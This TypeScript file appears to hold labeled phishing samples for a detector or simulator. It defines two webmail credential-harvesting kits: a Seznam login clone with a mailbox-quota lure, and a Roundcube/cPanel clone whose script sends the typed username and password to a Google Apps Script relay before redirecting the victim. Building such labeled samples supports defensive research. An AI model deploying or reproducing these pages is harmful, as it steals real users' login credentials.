import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, b64, favicon, wordmark, baseCss, cardFieldScript, chunks, xorList, pctAll } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'seznam-schranka.cz-prihlaseni.eu';
  const css = `${baseCss}body{background:#fff;font-family:Arial,Helvetica,sans-serif;color:#111}
.wrap{max-width:360px;margin:70px auto 0;text-align:center}
.alert{background:#fff4e5;border:1px solid #f5c37a;color:#6b4400;font-size:14px;padding:10px 12px;border-radius:6px;margin:0 0 22px;text-align:left}
h1{font-size:22px;font-weight:400;margin:18px 0 26px}
.inp{display:flex;border:1px solid #c2c2c2;border-radius:6px;overflow:hidden;margin-bottom:12px}.inp input{flex:1;border:0;padding:13px;font-size:16px}.inp select{border:0;border-left:1px solid #ddd;background:#f7f7f7;padding:0 8px}
.pw{width:100%;border:1px solid #c2c2c2;border-radius:6px;padding:13px;font-size:16px;margin-bottom:12px}
.b{width:100%;background:#cc0000;color:#fff;border:0;border-radius:6px;padding:13px;font-size:16px;font-weight:700;cursor:pointer}
.chk{text-align:left;font-size:14px;margin:8px 0 18px}
.bottom{font-size:13px;margin-top:30px;color:#666}.bottom a{color:#0a5fd1}`;
  const body = `<div class="wrap">
${wordmark('Seznam', '#cc0000', { mark: 'circle', width: 140 })}
<h1>Přihlášení</h1>
<p class="alert">Vaše schránka dosáhla 99 % kapacity. Příchozí zprávy jsou od dnešního dne zadržovány. Přihlaste se pro bezplatné navýšení úložiště na 10 GB.</p>
<form method="post" action="login.php">
<div class="inp"><input name="username" placeholder="Uživatelské jméno" autofocus required><select name="domain"><option>@seznam.cz</option><option>@email.cz</option><option>@post.cz</option><option>@spoluzaci.cz</option></select></div>
<input class="pw" type="password" name="password" placeholder="Heslo" required>
<div class="chk"><label><input type="checkbox" name="remember" checked> Pamatovat si mě</label></div>
<button class="b">Přihlásit se</button>
</form>
<div class="bottom"><a href="#">Zapomněli jste heslo?</a> · <a href="#">Registrovat</a><br><br>© 1996–2025 Seznam.cz, a.s.</div>
</div>`;
  const again = page({ lang: 'cs', title: 'Seznam – přihlášení', head: favicon('#cc0000', 'S'), css,
    body: body.replace('<p class="alert">', '<p class="alert" style="background:#fde8e8;border-color:#e99;color:#900">Nesprávné heslo. Zkuste to prosím znovu.</p><p class="alert" style="display:none">').replace('action="login.php"', 'action="login2.php"') });
  return {
    id: 'yd-seznam-quota-webmail-kit', label: 'phishing', kind: 'webmail-kit',
    url: `https://${host}/email/`,
    body: page({ lang: 'cs', title: 'Seznam – najdu tam, co neznám', head: favicon('#cc0000', 'S'), css, body }),
    routes: {
      [`${host}/email/login.php`]: htmlRoute(again),
      [`${host}/email/login2.php`]: redirectRoute(302, 'https://email.seznam.cz/'),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'webmail-gradnja-horvat.hr.cpanel-verify.net';
  const relay = 'script.google.com/macros/s/AKfycbz9Qm2XrH4TgB7wJcL0eVv1pNnY5kA3sD6fUoR8iZ/exec';
  const css = `body{margin:0;background:#f4f4f4 linear-gradient(180deg,#e8eef3,#f4f4f4);font-family:"Roboto","Open Sans",Arial,sans-serif;height:100vh}
#login-form{width:400px;margin:12vh auto 0;background:#fff;border-radius:4px;box-shadow:0 2px 8px rgba(0,0,0,.15);padding:30px 36px}
#logo{text-align:center;margin-bottom:20px}
.warn{background:#fff3cd;color:#664d03;border:1px solid #ffe69c;padding:10px;font-size:13px;margin-bottom:16px}
table{width:100%}td.title{width:35%;font-size:13px;color:#555}input{width:100%;padding:8px;border:1px solid #ccc;border-radius:3px;box-sizing:border-box}
.mainaction{margin-top:18px;width:100%;padding:10px;background:#37beff;border:0;color:#fff;font-size:15px;border-radius:3px;cursor:pointer}
#footer{text-align:center;font-size:11px;color:#999;margin-top:14px}`;
  const body = `<div id="login-form">
<div id="logo">${wordmark('roundcube', '#37beff', { mark: 'circle', width: 160, sub: 'Webmail' })}</div>
<div class="warn">Vaš poštanski sandučić dosegao je 98% dopuštene kvote (1.96 GB / 2 GB). Nove poruke neće biti isporučene. Prijavite se kako biste potvrdili besplatno proširenje.</div>
<form id="rc" autocomplete="off">
<table><tr><td class="title"><label for="rcmloginuser">Korisničko ime</label></td><td><input id="rcmloginuser" name="_user" required></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Lozinka</label></td><td><input id="rcmloginpwd" name="_pass" type="password" required></td></tr></table>
<button class="mainaction" type="submit">Prijava</button>
</form>
<div id="footer">Roundcube Webmail · cPanel</div></div>`;
  const js = `<script>
(function(){var e=(location.hash.match(/#(?:email=)?([^&]+@[^&]+)/)||[])[1];if(e){e=decodeURIComponent(e);try{if(!/@/.test(e))e=atob(e)}catch(x){}document.getElementById('rcmloginuser').value=e;document.title=e.split('@')[1]+' :: Webmail';}
document.getElementById('rc').onsubmit=function(ev){ev.preventDefault();var f=new FormData(this);f.append('host',location.hostname);
fetch('https://${relay}',{method:'POST',mode:'no-cors',body:f}).finally(function(){var d=(document.getElementById('rcmloginuser').value.split('@')[1]||'');location.href='https://'+(d?'mail.'+d:'www.google.com')})};})();
</script>`;
  return {
    id: 'yd-roundcube-hr-quota-relay-kit', label: 'phishing', kind: 'webmail-kit',
    url: `https://${host}/roundcube/?_task=login#email=nabava@gradnja-horvat.hr`,
    body: page({ lang: 'hr', title: 'Webmail :: Prijava', head: favicon('#37beff', 'R'), css, body, scripts: js }),
    routes: { [relay]: jsonRoute({ result: 'success' }) },
  } satisfies Entry;
})(),
];
